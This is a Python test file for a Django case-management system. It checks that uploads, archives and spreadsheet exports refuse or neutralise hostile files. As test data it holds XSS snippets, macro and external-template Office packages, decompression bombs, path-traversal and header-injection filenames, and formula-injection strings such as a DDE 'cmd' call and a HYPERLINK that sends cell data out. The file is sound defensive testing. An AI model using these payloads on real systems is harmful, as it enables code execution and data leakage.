"""Hostile files: bombs, broken packages, names that mislead, cells that compute."""

from __future__ import annotations

import csv
import io
import struct
import zipfile
import zlib

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from gongkai.letters import archive_case
from gongkai.office.cases.desk import desk_of
from gongkai.office.cases.views_archive import papers
from gongkai.office.clock import today
from gongkai.office.vault.files import RefusedFileError, kind_of, store

from ..builders import make_case

pytestmark = pytest.mark.django_db


def zipped(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in members.items():
            package.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def docx(**more: bytes) -> bytes:
    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return zipped(**{"[Content_Types].xml": types, "word/document.xml": b"<w/>", **more})


def linked(relation: str) -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{relation}" '
        'Target="http://example.org/x" TargetMode="External"/></Relationships>'
    ).encode()


def png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


@pytest.mark.parametrize(
    "data",
    [
        b"PK\x03\x04" + b"\x00" * 40,
        docx()[:-30],
        b"<html><script>alert(1)</script>",
        b"\xef\xbb\xbf<script>alert(1)</script>",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"GIF89a" + b"\x00" * 20,
        docx(**{"word/vbaProject.bin": b"x"}),
        docx(**{"xl/macrosheets/sheet1.xml": b"<x/>"}),
        docx(**{"word/_rels/settings.xml.rels": linked("attachedTemplate")}),
        docx(**{"word/_rels/document.xml.rels": linked("oleObject")}),
        docx(**{"word/_rels/document.xml.rels": b"<!DOCTYPE x [<!ENTITY a 'aaaa'>]><x>&a;"}),
        zipped(**{"a.txt": b"x"}),
        b"\x7fELF" + b"\x00" * 60,
        b"MZ" + b"\x00" * 60,
    ],
)
def test_what_is_not_a_document_is_refused_with_a_sentence(data):
    with pytest.raises(RefusedFileError):
        store("证据.docx", data)


def test_a_broken_package_is_no_fault_of_the_server(client, make_organ, make_person):
    from ..portal.visiting import fill_in

    government = make_organ(kind="government")
    organ = make_organ(parent=government, channels=["in_person", "post", "internet"])
    make_person("clerk", organ)
    broken = SimpleUploadedFile("材料.docx", b"PK\x03\x04" + b"\x00" * 40)
    answer = fill_in(client, organ, attachments=broken)
    assert answer.status_code == 200 and "RTL" not in answer.content.decode()


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("..\\..\\boot.txt", "boot.txt"),
        ("发票\u202efdp.exe", "发票fdp.txt"),
        ("a\r\nSet-Cookie: x=1.txt", "aSet-Cookie: x=1.txt"),
        ("\x00.txt", "文件.txt"),
        ("\ud800.txt", "文件.txt"),
        ("x" * 5000 + ".txt", "x" * 146 + ".txt"),
        ('"><script>.txt', '"><script>.txt'),
    ],
)
def test_a_file_keeps_of_its_name_what_does_no_harm(name, kept):
    assert store(name, b"text").name == kept


def archive(desks, *files):
    case = make_case(desks.organ, files={"attachments": [store(name, data) for name, data in files]})
    one = desk_of(case, desks.people["clerk"], frozenset({"clerk"}), today())
    return archive_case("案卷", "某局", papers(one))


def test_an_archive_is_made_whatever_the_applicant_attached(desks):
    bomb = docx(**{"word/document.xml": b"<w>" + b" " * (60 << 20) + b"</w>"})
    made = archive(
        desks,
        ("甲.docx", bomb),
        ("乙.png", png(60_000, 60_000)),
        ("丙.pdf", b"%PDF-1.7\n" + b"x" * 500),
        ("丁.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 300),
        ("戊.pdf", encrypted_pdf()),
        ("己.pdf", looping_pdf()),
    )
    assert made.pdf[:5] == b"%PDF-"
    notes = {entry.title: entry.note for entry in made.index}
    assert all(notes[name] for name in "甲乙丙丁"), notes


def encrypted_pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n4 0 obj<</Filter/Standard/V 1/R 2/O<"
        + b"00" * 32
        + b">/U<"
        + b"11" * 32
        + b">/P -4>>endobj\ntrailer<</Root 1 0 R/Encrypt 4 0 R/ID[<00><00>]>>\n%%EOF"
    )


def looping_pdf() -> bytes:
    """A page tree that holds itself and says that it has a hundred million pages."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R 3 0 R]/Count 100000000>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


FORMULA = '=HYPERLINK("http://example.org/"&A1,"x")'


def test_no_cell_of_an_exported_ledger_computes_what_an_applicant_wrote(desks):
    for description in (FORMULA, "+1+1", "-1+1", "@SUM(1)"):
        make_case(desks.organ, description=description, personal={"applicant_name": FORMULA})
    answer = desks.browsers["clerk"].post(
        f"/office/interchange/{desks.organ.code}/export/", {"year": str(today().year), "names": "on"}
    )
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    found = [cell for page in book for row in page.iter_rows() for cell in row if cell.value == FORMULA]
    assert len(found) >= 5 and all(cell.data_type == "s" for cell in found)


def test_no_cell_of_the_archives_list_computes(desks):
    made = archive(desks, ("=cmd|' /C calc'!A0.txt", b"text"), ("\t=1+1.txt", b"text"))
    with zipfile.ZipFile(io.BytesIO(made.zip)) as package:
        rows = csv.reader(io.StringIO(package.read("卷内目录.csv").decode("utf-8-sig")))
        cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]


@pytest.mark.parametrize("relation", ["attachedTemplate", "oleObject", "image", "hyperlink"])
def test_a_template_with_anything_from_elsewhere_is_refused(desks, relation):
    answer = desks.browsers["system_admin"].post(
        f"/office/cases/{desks.organ.code}/letters/disclosed/",
        {
            "since": today().isoformat(),
            "file": SimpleUploadedFile("a.docx", docx(**{"word/_rels/settings.xml.rels": linked(relation)})),
        },
    )
    assert answer.status_code == 200
    assert desks.organ.letter_templates.count() == 0


def test_a_link_that_waits_to_be_clicked_may_stay():
    assert kind_of(docx(**{"word/_rels/document.xml.rels": linked("hyperlink")})) == "docx"


@pytest.mark.parametrize("data", [b"%PDF-1.4 x", png(2, 2), "=1+1 文字".encode()])
def test_what_is_stored_is_known_by_its_content(data):
    assert kind_of(data) in ("pdf", "png", "txt")
